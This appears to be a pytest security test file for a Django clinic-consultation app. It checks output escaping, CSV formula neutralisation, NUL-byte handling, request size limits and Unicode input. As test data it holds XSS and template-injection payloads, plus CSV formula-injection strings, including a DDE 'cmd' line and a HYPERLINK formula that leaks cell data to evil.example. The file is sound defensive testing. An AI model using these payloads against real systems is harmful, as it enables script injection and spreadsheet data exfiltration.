"""Hostile input: markup comes out escaped everywhere, oversized and NUL-laden requests are refused cleanly."""

import csv
import io
import json
import re
from types import SimpleNamespace
from urllib.parse import urlencode

import markupsafe
import pytest
from django.conf import settings
from django.core import mail
from django.test import Client
from django.utils.html import escape

from audit.models import AuditEvent
from consultations.models import Consultation, Note
from staff.detail import plan_options
from tests.consultations.factories import PRECAUTION_SLUGS, as_sender, intake_data, make_consultation
from tests.consultations.people import make_clinic_admin, make_staff, make_user, sign_in
from treatments.models import Region

pytestmark = pytest.mark.django_db

# A template expression whose result cannot be on a page by chance: "{{7*7}}" was checked as "49", which a random
# CSRF token or an id could hold.
TEMPLATE_EXPRESSION = "{{ 'evaluated'|upper }}"
EVALUATED = "EVALUATED"

CORPUS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "'';!--\"<XSS>=&{()}",
    "<svg/onload=alert(1)>",
    TEMPLATE_EXPRESSION,
    "{% debug %}",
]
CORPUS_IDS = [
    "script",
    "img-onerror",
    "javascript-url",
    "xss-locator",
    "svg-onload",
    "template-expression",
    "template-tag",
]
# Valid addresses (a quoted local part may hold markup) that still carry a payload.
HOSTILE_EMAIL = '"<svg/onload=alert(1)>"@example.com'
TREATMENTS = ["botox", "dermal-filler"]
PRECAUTIONS = PRECAUTION_SLUGS
SCRIPT_URL = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)
NUL_REFUSED = "Null characters are not allowed."


def typed_by_patient(payload: str) -> dict[str, str]:
    """The payload, tagged with where it went, in every free-text field of the intake form but the phone."""
    fields = {"full_name": f"{payload} name", "goals": f"{payload} goals"}
    for slug in TREATMENTS:
        fields[f"earlier-{slug}-outcome"] = f"{payload} outcome {slug}"
    for slug in PRECAUTIONS:
        fields[f"screening-{slug}-detail"] = f"{payload} detail {slug}"
    return fields


def hostile_answers(payload: str) -> dict:
    ticked = {f"earlier-{slug}": "on" for slug in TREATMENTS} | {f"earlier-{slug}-months": "6" for slug in TREATMENTS}
    return {**typed_by_patient(payload), **ticked}


def logged_in(user, *, raise_request_exception=True) -> Client:
    client = Client(raise_request_exception=raise_request_exception)
    sign_in(client, user)
    return client


def html_of(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def assert_nothing_raw(html: str, payload: str):
    """The payload never reaches the page as markup, and no link or form points at a script URL."""
    if escape(payload) != payload:
        assert payload not in html
    assert not SCRIPT_URL.search(html)


def escaped_forms(value: str) -> set[str]:
    """The value escaped as Django's templates write it, and as Jinja2's, which renders the form widgets (a quote
    is &quot; in one and &#34; in the other)."""
    return {str(escape(value)), str(markupsafe.escape(value))}


def assert_shown_escaped(html: str, payload: str, values):
    """Each value is on the page in its escaped form, and no template engine ran it."""
    assert_nothing_raw(html, payload)
    for value in values:
        assert any(escaped in html for escaped in escaped_forms(value)), f"{value!r} is not on the page, escaped"
        if escape(value) != value:
            assert value not in html, f"{value!r} is on the page unescaped"
        if TEMPLATE_EXPRESSION in value:
            assert not any(ran in html for ran in escaped_forms(value.replace(TEMPLATE_EXPRESSION, EVALUATED)))


def assert_not_shown(html: str, values):
    for value in values:
        assert value not in html and escape(value) not in html, f"{value!r} is on the page"


@pytest.fixture(params=CORPUS, ids=CORPUS_IDS)
def payload(request):
    return request.param


@pytest.fixture
def people(catalogue):
    return SimpleNamespace(patient=make_user("patient"), staff=make_staff(), admin=make_clinic_admin())


@pytest.fixture
def hostile(payload, people):
    """A patient's consultation with the payload in every field they typed, and in a staff note and the plan."""
    consultation = make_consultation(email=HOSTILE_EMAIL, **hostile_answers(payload))
    Consultation.objects.filter(pk=consultation.pk).update(patient=people.patient)
    staff = logged_in(people.staff)
    base = f"/staff/consultations/{consultation.reference}"
    staff_typed = {"note": f"{payload} note", "plan": f"{payload} plan"}
    assert staff.post(f"{base}/notes/", {"text": staff_typed["note"]}).status_code == 302
    plan = {
        "version": consultation.version,
        "items": [plan_options(consultation)[0][0]],
        "plan_notes": staff_typed["plan"],
    }
    assert staff.post(f"{base}/plan/", plan).status_code == 302
    return SimpleNamespace(
        reference=consultation.reference,
        payload=payload,
        patient_typed=typed_by_patient(payload),
        staff_typed=staff_typed,
        staff=staff,
    )


def every_typed(hostile) -> list[str]:
    return [*hostile.patient_typed.values(), *hostile.staff_typed.values()]


# Pages -------------------------------------------------------------------------------------------


def test_result_page_shows_none_of_what_was_typed(client, hostile):
    as_sender(client, hostile)
    html = html_of(client.get(f"/consultation/{hostile.reference}/"))
    assert_nothing_raw(html, hostile.payload)
    assert_not_shown(html, [*every_typed(hostile), HOSTILE_EMAIL])


@pytest.mark.parametrize("page", ["", "print/"])
def test_staff_detail_and_print_pages_show_every_field_escaped(hostile, page):
    html = html_of(hostile.staff.get(f"/staff/consultations/{hostile.reference}/{page}"))
    assert_shown_escaped(html, hostile.payload, [*every_typed(hostile), HOSTILE_EMAIL])


def test_staff_queue_shows_the_name_escaped(hostile):
    html = html_of(hostile.staff.get("/staff/"))
    assert_shown_escaped(html, hostile.payload, [hostile.patient_typed["full_name"]])


def test_patients_own_page_shows_their_answers_escaped(hostile, people):
    html = html_of(logged_in(people.patient).get(f"/me/consultations/{hostile.reference}/"))
    answers = [value for field, value in hostile.patient_typed.items() if field != "full_name"]
    assert_shown_escaped(html, hostile.payload, answers)


def test_audit_admin_holds_no_typed_text_and_escapes_a_search(hostile, people):
    admin = logged_in(people.admin)
    events = AuditEvent.objects.filter(consultation_reference=hostile.reference)
    assert events.exists()
    pages = ["/admin/audit/auditevent/", *(f"/admin/audit/auditevent/{event.pk}/change/" for event in events)]
    for page in pages:
        html = html_of(admin.get(page))
        assert_nothing_raw(html, hostile.payload)
        assert_not_shown(html, every_typed(hostile))
    searched = html_of(admin.get("/admin/audit/auditevent/", {"q": hostile.payload}))
    assert_shown_escaped(searched, hostile.payload, [hostile.payload])


def test_intake_form_shown_again_escapes_everything_typed(client, catalogue, payload):
    response = client.post("/consultation/", intake_data(phone=payload, **hostile_answers(payload)))
    html = html_of(response)
    assert response.context["form"].errors["phone"]
    assert not Consultation.objects.exists()
    assert_shown_escaped(html, payload, typed_by_patient(payload).values())


def test_catalogue_names_typed_by_content_editors_are_text_on_the_intake_form(catalogue, payload):
    """Content editors may rename a region in the admin; the intake form must print the name, not run it."""
    region = Region.objects.order_by("position").first()
    region.name = payload
    region.save()
    response = Client(raise_request_exception=False).get("/consultation/")
    html = html_of(response)
    assert f'<h2 class="h5 mt-4">{escape(payload)}</h2>' in html
    assert_nothing_raw(html, payload)


@pytest.mark.parametrize("phone", [*CORPUS, "07700 900123<script>", "=1+1", "+44 7700 900123\n=cmd", "07700\x0b900123"])
def test_hostile_phone_is_refused_with_a_form_error(client, catalogue, phone):
    response = client.post("/consultation/", intake_data(phone=phone, contact_method="phone"))
    assert response.status_code == 200
    assert "Enter a phone number in digits" in response.context["form"].errors["phone"][0]
    assert not Consultation.objects.exists()


# Exports and emails ------------------------------------------------------------------------------


# The CSV's headings, by the consultation's field names.
CSV_HEADINGS = {"reference": "Reference", "full_name": "Full name", "email": "Email", "phone": "Phone"}


def csv_rows(response) -> tuple[list[dict], str]:
    """The rows keyed by field name (the CSV's headings are for people)."""
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return [{field: row[heading] for field, heading in CSV_HEADINGS.items()} for row in rows], body


def test_csv_export_keeps_the_name_as_one_quoted_cell(hostile):
    rows, body = csv_rows(hostile.staff.get("/staff/export.csv"))
    (row,) = rows
    assert row["reference"] == hostile.reference
    assert row["full_name"] == hostile.patient_typed["full_name"]
    assert row["email"] == HOSTILE_EMAIL
    if '"' in hostile.payload:
        assert '"{}"'.format(hostile.patient_typed["full_name"].replace('"', '""')) in body


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("full_name", "=1+1"),
        ("full_name", "+1+1"),
        ("full_name", "-1+1"),
        ("full_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("full_name", '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'),
        ("email", "=1+1@example.com"),
        ("email", "+1@example.com"),
        ("email", "-1@example.com"),
        ("phone", "+44 7700 900123"),
        ("phone", "-1-1-1-1"),
    ],
)
def test_csv_export_neutralises_a_cell_that_starts_like_a_formula(catalogue, field, value):
    make_consultation(**{field: value})
    rows, _body = csv_rows(logged_in(make_staff()).get("/staff/export.csv"))
    assert rows[0][field] == "'" + value


def answered_strings(node) -> list[str]:
    """Every valueString anywhere in a FHIR resource."""
    if isinstance(node, dict):
        found = [node["valueString"]] if "valueString" in node else []
        return found + [text for value in node.values() for text in answered_strings(value)]
    if isinstance(node, list):
        return [text for value in node for text in answered_strings(value)]
    return []


def test_fhir_export_round_trips_every_string_exactly(hostile):
    response = hostile.staff.get(f"/staff/consultations/{hostile.reference}/fhir.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/fhir+json"
    strings = answered_strings(json.loads(response.content))
    for value in [*hostile.patient_typed.values(), HOSTILE_EMAIL]:
        assert value in strings


def test_patient_data_download_round_trips_every_string_exactly(hostile, people):
    response = logged_in(people.patient).get("/me/export.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    (data,) = json.loads(response.content)["consultations"]
    assert data["full_name"] == hostile.patient_typed["full_name"]
    assert data["goals"] == hostile.patient_typed["goals"]
    assert data["email"] == HOSTILE_EMAIL
    assert data["plan_agreed"]["notes"] == hostile.staff_typed["plan"]
    assert {e["how_it_went"] for e in data["earlier_treatments"]} == {
        hostile.patient_typed[f"earlier-{slug}-outcome"] for slug in TREATMENTS
    }
    assert {a["detail"] for a in data["screening"]} == {
        hostile.patient_typed[f"screening-{slug}-detail"] for slug in PRECAUTIONS
    }


def test_emails_hold_no_name_or_health_details(client, catalogue, payload, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/consultation/", intake_data(**hostile_answers(payload)))
    assert response.status_code == 302
    assert len(mail.outbox) == 2
    typed = typed_by_patient(payload).values()
    suggested = [suggestion["name"] for suggestion in Consultation.objects.get().suggestion["suggestions"]]
    assert suggested
    for message in mail.outbox:
        text = f"{message.subject}\n{message.body}"
        assert payload not in text
        assert_not_shown(
            text, [*typed, *(value.replace(TEMPLATE_EXPRESSION, EVALUATED) for value in typed), *suggested]
        )


# Oversized requests ------------------------------------------------------------------------------


def post_encoded(client, data: dict, encoding: str):
    if encoding == "multipart":
        return client.post("/consultation/", data)
    body = urlencode(data, doseq=True)
    return client.post("/consultation/", body, content_type="application/x-www-form-urlencoded")


@pytest.mark.parametrize("encoding", ["multipart", "urlencoded"])
def test_too_many_fields_get_a_400_and_nothing_is_stored(client, catalogue, encoding):
    extra = {f"extra-{number}": "x" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    response = post_encoded(client, intake_data(**extra), encoding)
    assert response.status_code == 400
    assert not Consultation.objects.exists()


@pytest.mark.parametrize("encoding", ["multipart", "urlencoded"])
def test_a_body_over_the_limit_gets_a_413_and_nothing_is_stored(client, catalogue, encoding):
    goals = "x" * (settings.REQUEST_BODY_MAX_BYTES + 512 * 1024)
    response = post_encoded(client, intake_data(goals=goals), encoding)
    assert response.status_code == 413
    assert not Consultation.objects.exists()


@pytest.mark.parametrize("encoding", ["multipart", "urlencoded"])
def test_a_body_under_the_cap_but_over_djangos_memory_limit_gets_a_400(client, catalogue, encoding, settings):
    settings.REQUEST_BODY_MAX_BYTES = settings.DATA_UPLOAD_MAX_MEMORY_SIZE * 2
    goals = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 512 * 1024)
    response = post_encoded(client, intake_data(goals=goals), encoding)
    assert response.status_code == 400
    assert not Consultation.objects.exists()


# NUL bytes ---------------------------------------------------------------------------------------

FREE_TEXT_FIELDS = [
    "full_name",
    "email",
    "phone",
    "goals",
    "website",
    *(f"earlier-{slug}-outcome" for slug in TREATMENTS),
    *(f"screening-{slug}-detail" for slug in PRECAUTIONS),
]
OTHER_INTAKE_FIELDS = [
    "date_of_birth",
    "contact_method",
    "submission_token",
    "area-glabella",
    "severity-cheeks",
    "screening-allergy-other",
    "earlier-botox-months",
]


@pytest.mark.parametrize("field", FREE_TEXT_FIELDS + OTHER_INTAKE_FIELDS)
def test_a_nul_byte_in_any_intake_field_gives_a_form_error(client, catalogue, field):
    ticked = {"earlier-botox": "on", "earlier-botox-months": "3"}
    response = client.post("/consultation/", intake_data(**{**ticked, field: "Ada\x00Lovelace"}))
    assert response.status_code == 200
    assert response.context["form"].errors[field]
    assert 'name="submission_token"' in response.content.decode()
    assert not Consultation.objects.exists()


@pytest.mark.parametrize("field", FREE_TEXT_FIELDS)
def test_a_nul_byte_in_free_text_is_refused_as_such(client, catalogue, field):
    response = client.post("/consultation/", intake_data(**{field: "\x00"}))
    assert response.status_code == 200
    assert NUL_REFUSED in response.context["form"].errors[field]


QUEUE_FILTERS = ["q", "status", "treatment", "area", "has_flags", "submitted_from", "submitted_to", "assigned_to"]


@pytest.mark.parametrize("path", ["/staff/", "/staff/export.csv"])
@pytest.mark.parametrize("param", [*QUEUE_FILTERS, "sort", "page"])
def test_a_nul_byte_in_a_queue_filter_gives_a_page_not_a_500(catalogue, path, param):
    make_consultation(full_name="Grace Hopper")
    response = logged_in(make_staff(), raise_request_exception=False).get(path, {param: "Hop\x00per"})
    assert response.status_code in (200, 400)


def test_a_nul_byte_in_the_queue_search_is_refused_before_the_database(catalogue):
    make_consultation(full_name="Grace Hopper")
    response = logged_in(make_staff()).get("/staff/", {"q": "\x00"})
    assert response.status_code == 400
    assert "contains a character that is not allowed (NUL)" in response.content.decode()


@pytest.mark.parametrize(
    "params",
    [{"q": "\x00"}, {"action__exact": "\x00"}, {"at__year": "\x00"}, {"o": "\x00"}, {"p": "\x00"}],
    ids=["search", "action-filter", "date-hierarchy", "ordering", "page"],
)
def test_a_nul_byte_in_the_audit_admin_gives_a_page_not_a_500(catalogue, params):
    admin = logged_in(make_clinic_admin(), raise_request_exception=False)
    response = admin.get("/admin/audit/auditevent/", params)
    assert response.status_code in (200, 302, 400)


@pytest.mark.parametrize(
    ("action", "data", "status"),
    [
        ("notes", {"text": "Called\x00back"}, 200),
        ("plan", {"plan_notes": "Two\x00sessions", "items": []}, 200),
        ("plan", {"plan_notes": "", "items": ["\x00"]}, 200),
        ("status", {"to_status": "in-review\x00"}, 200),
        ("status", {"to_status": "in-review", "version": "1\x00"}, 409),  # no version it can trust: out of date
        ("assign", {"assigned_to": "\x00"}, 200),
    ],
)
def test_a_nul_byte_in_a_staff_form_is_refused_and_nothing_is_saved(catalogue, action, data, status):
    consultation = make_consultation()
    staff = logged_in(make_staff())
    response = staff.post(f"/staff/consultations/{consultation.reference}/{action}/", {"version": 1, **data})
    # Sent back with the reason: 200 for input to correct, 409 when the page counts as out of date.
    assert response.status_code == status and 'class="alert alert-danger"' in response.content.decode()
    after = Consultation.objects.get(pk=consultation.pk)
    assert (after.version, after.status, after.plan_notes, after.assigned_to) == (1, "new", "", None)
    assert not Note.objects.exists()


ACCOUNT_PASSWORD = "Another-long-passphrase-42"


@pytest.mark.parametrize(
    ("path", "field", "data"),
    [
        ("/accounts/login/", "login", {"login": "patient\x00", "password": "a-long-test-password"}),
        ("/accounts/login/", "password", {"login": "patient", "password": "a-long\x00-test-password"}),
        ("/accounts/signup/", "email", {"email": "new\x00@example.com"}),
        ("/accounts/signup/", "password1", {"email": "new@example.com", "password1": "p\x00"}),
        ("/accounts/password/reset/", "email", {"email": "patient\x00@example.com"}),
    ],
)
def test_a_nul_byte_in_an_account_form_gives_a_form_error(client, people, path, field, data):
    response = client.post(path, {"password1": ACCOUNT_PASSWORD, "password2": ACCOUNT_PASSWORD, **data})
    assert response.status_code == 200
    assert NUL_REFUSED in response.context["form"].errors[field]


# Unicode and long input --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Zoë Ångström-Øre",
        "Zoe\u0301 Decomposed",
        "مريم الحسن",
        "שרה כהן",
        "李小龍",
        "Ada 👩🏽‍⚕️ Lovelace 🇬🇧",
        "😀" * 150,
    ],
    ids=["latin", "combining", "arabic", "hebrew", "han", "emoji", "150-emoji"],
)
def test_unicode_names_are_kept_exactly(client, catalogue, name):
    response = client.post("/consultation/", intake_data(full_name=name))
    assert response.status_code == 302
    consultation = Consultation.objects.get()
    assert consultation.full_name == name
    html = html_of(logged_in(make_staff()).get(f"/staff/consultations/{consultation.reference}/"))
    assert escape(name) in html


@pytest.mark.parametrize("name", ["A" * 151, "😀" * 151], ids=["ascii", "emoji"])
def test_a_151_character_name_gets_the_max_length_message(client, catalogue, name):
    response = client.post("/consultation/", intake_data(full_name=name))
    assert response.status_code == 200
    assert response.context["form"].errors["full_name"] == [
        "Ensure this value has at most 150 characters (it has 151)."
    ]
    assert not Consultation.objects.exists()


@pytest.mark.parametrize(
    ("field", "limit"),
    [("goals", 2000), ("earlier-botox-outcome", 1000), ("screening-allergy-other-detail", 500)],
)
def test_free_text_over_its_limit_gets_the_max_length_message(client, catalogue, field, limit):
    data = intake_data(**{"earlier-botox": "on", "earlier-botox-months": "3", field: "x" * (limit + 1)})
    response = client.post("/consultation/", data)
    assert response.status_code == 200
    assert f"at most {limit} characters" in response.context["form"].errors[field][0]


def test_an_email_too_long_for_the_database_gets_a_form_error(client, catalogue):
    """Django's form EmailField takes up to 320 characters, the column 254: PostgreSQL refuses the rest."""
    email = "a" * 64 + "@" + ("b" * 60 + ".") * 4 + "com"
    response = client.post("/consultation/", intake_data(email=email))
    assert response.status_code == 200
    assert response.context["form"].errors["email"]
    assert not Consultation.objects.exists()


def test_invalid_utf8_in_a_field_is_replaced_not_a_500(client, catalogue):
    body = urlencode(intake_data(goals="placeholder"), doseq=True).replace("placeholder", "Look%ED%A0%80less%FFtired")
    response = client.post("/consultation/", body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 302
    assert Consultation.objects.get().goals == "Look\ufffd\ufffd\ufffdless\ufffdtired"
